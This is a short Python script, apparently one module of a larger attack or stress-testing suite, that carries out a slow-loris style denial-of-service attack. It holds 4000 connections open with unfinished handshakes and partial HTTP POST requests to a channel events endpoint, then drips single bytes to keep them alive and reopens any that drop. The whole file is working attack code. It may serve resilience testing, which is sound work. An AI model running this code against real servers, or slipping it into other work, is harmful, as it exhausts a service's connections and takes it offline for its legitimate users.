"""Handshakes and requests that are begun and never come to an end: some say nothing more, the others a
byte now and then."""

import time

import attack

CONNECTIONS = 4000
BYTES_PER_SECOND = 2000


def half_open(target, stop):
    begun = [target.handshake()[:-2], b"", b"G", target.handshake()[:40],
             f"POST {target.path}/channels/x/events HTTP/1.1\r\nHost: x\r\n{target.authorization()}\r\n"
             "Content-Length: 100000\r\n\r\n{".encode(),
             f"POST {target.path}/channels/x/events HTTP/1.1\r\nHost: x\r\n{target.authorization()}\r\n"
             "Transfer-Encoding: chunked\r\n\r\n5\r\n{".encode()]

    def begin_one(number):
        connection = target.connect()
        connection.send(begun[number % len(begun)])
        connection.setblocking(False)
        return connection

    connections = [begin_one(number) for number in range(CONNECTIONS)]
    attack.in_full_swing()
    dripped = dropped = 0
    begin = time.monotonic()
    while not stop.wait(begin + dripped / BYTES_PER_SECOND - time.monotonic()):
        at = dripped % CONNECTIONS
        dripped += 1
        try:
            connections[at].send(b"x")
        except OSError:
            connections[at].close()
            connections[at] = begin_one(at)
            dropped += 1
    return {"connections": CONNECTIONS, "bytes": dripped, "dropped": dropped}


if __name__ == "__main__":
    attack.main(half_open)
